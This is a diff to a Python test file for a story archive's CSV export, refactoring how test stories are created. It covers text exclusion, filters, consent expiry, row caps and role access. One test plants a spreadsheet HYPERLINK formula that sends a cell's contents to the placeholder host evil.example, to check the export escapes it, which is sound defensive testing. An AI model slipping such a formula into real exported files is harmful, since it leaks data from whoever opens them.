@@ -14,7 +14,7 @@ from archive.extensions import db
 from archive.library import search_csv as search_export
 from archive.models import Story, utcnow
 from tests.fixtures.stories import STORY_TEXT
-from tests.test_search_facets import index_busy, search_backend, shelve  # noqa: F401 (both backends)
+from tests.test_search_facets import index_busy, search_backend  # noqa: F401 (both backends)
 
 URL = "/library/search.csv"
 
@@ -33,15 +33,14 @@ def read_csv(client, query: str = "") -> tuple[list[dict], list[list[str]]]:
     return rows, lines[blank + 1 :]
 
 
-def test_each_row_names_cites_and_dates_a_story_without_its_text(app, sign_in):
-    story_id = shelve(
-        app,
+def test_each_row_names_cites_and_dates_a_story_without_its_text(app, stories, sign_in):
+    story_id = stories.shelved(
         "The midwife came by boat. " + STORY_TEXT,
         title="By boat",
         topics=("maternal-health", "waiting", "boats"),
         warnings=("death",),
-    )
-    shelve(app, "Nothing about the river here.", title="Other")
+    ).story_id
+    stories.shelved("Nothing about the river here.", title="Other")
     rows, tail = read_csv(sign_in("educator"), "q=midwife")
     today = utcnow().date().isoformat()
     assert len(rows) == 1
@@ -68,19 +67,19 @@ def test_each_row_names_cites_and_dates_a_story_without_its_text(app, sign_in):
     assert tail[1] == ["1 story listed."]
 
 
-def test_no_story_text_is_ever_in_the_export(app, sign_in):
-    shelve(app, STORY_TEXT, title="The cough")
+def test_no_story_text_is_ever_in_the_export(app, stories, sign_in):
+    stories.shelved(STORY_TEXT, title="The cough")
     body = sign_in("educator").get(f"{URL}?q=cough").get_data(as_text=True)
     assert "The cough" in body
     for sentence in STORY_TEXT.split(". "):
         assert sentence[:40] not in body
 
 
-def test_the_export_takes_the_same_filters_as_the_page(app, sign_in):
-    kept = shelve(app, "Grief for the farm.", topics=("stigma",))
-    shelve(app, "Grief after the suicide.", topics=("stigma",), warnings=("suicide",))
-    shelve(app, "Grief, untagged.")
-    shelve(app, "Huzuni kubwa.", topics=("stigma",), language="sw")
+def test_the_export_takes_the_same_filters_as_the_page(app, stories, sign_in):
+    kept = stories.shelved("Grief for the farm.", topics=("stigma",)).story_id
+    stories.shelved("Grief after the suicide.", topics=("stigma",), warnings=("suicide",))
+    stories.shelved("Grief, untagged.")
+    stories.shelved("Huzuni kubwa.", topics=("stigma",), language="sw")
     educator = sign_in("educator")
     rows, _ = read_csv(educator, "q=grief&tag=stigma&without=suicide&lang=en&page=7")  # page is ignored
     assert [r["url"].rsplit("/", 1)[1] for r in rows] == [kept]
@@ -89,9 +88,9 @@ def test_the_export_takes_the_same_filters_as_the_page(app, sign_in):
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
-def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(app, sign_in, start):
+def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(app, stories, sign_in, start):
     title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
-    shelve(app, "A story whose title was made to run.", title=title, topics=(f"{start.strip()}cmd",))
+    stories.shelved("A story whose title was made to run.", title=title, topics=(f"{start.strip()}cmd",))
     rows, _ = read_csv(sign_in("educator"))
     assert rows[0]["title"] == "'" + title
     assert not any(value.startswith(("=", "+", "-", "@", "\t")) for value in rows[0].values())
@@ -113,9 +112,9 @@ def test_a_withdrawn_story_is_gone_from_the_export_at_once(app, sign_in, ingest,
     assert leaving not in body and "Leaving" not in body
 
 
-def test_a_story_whose_consent_lapsed_since_indexing_is_not_listed(app, sign_in):
-    gone = shelve(app, "Grief that was shared for a while.", title="Lapsed")
-    shelve(app, "Grief that is still shared.", title="Kept")
+def test_a_story_whose_consent_lapsed_since_indexing_is_not_listed(app, stories, sign_in):
+    gone = stories.shelved("Grief that was shared for a while.", title="Lapsed").story_id
+    stories.shelved("Grief that is still shared.", title="Kept")
     with app.app_context():
         db.session.get(Story, gone).consent.expires_at = utcnow() - timedelta(seconds=1)
         db.session.commit()
@@ -124,9 +123,9 @@ def test_a_story_whose_consent_lapsed_since_indexing_is_not_listed(app, sign_in)
     assert [r["title"] for r in rows] == ["Kept"]
 
 
-def test_a_capped_export_says_so_in_its_last_line(app, sign_in, monkeypatch):
+def test_a_capped_export_says_so_in_its_last_line(app, stories, sign_in, monkeypatch):
     for n in range(3):
-        shelve(app, f"Ferry story {n}.")
+        stories.shelved(f"Ferry story {n}.")
     monkeypatch.setattr(search_export, "MAX_ROWS", 2)
     rows, tail = read_csv(sign_in("educator"), "q=ferry")
     assert len(rows) == 2
@@ -143,8 +142,8 @@ def test_a_query_the_search_refuses_is_a_400_before_any_row(app, sign_in):
 
 
 @pytest.mark.parametrize("role,status", [("facilitator", 403), ("reviewer", 403), ("admin", 200)])
-def test_only_educators_and_admins_export(app, sign_in, role, status):
-    shelve(app, "Grief.", title="Anything")
+def test_only_educators_and_admins_export(app, stories, sign_in, role, status):
+    stories.shelved("Grief.", title="Anything")
     response = sign_in(role).get(URL)
     assert response.status_code == status
     assert (b"Anything" in response.data) == (status == 200)
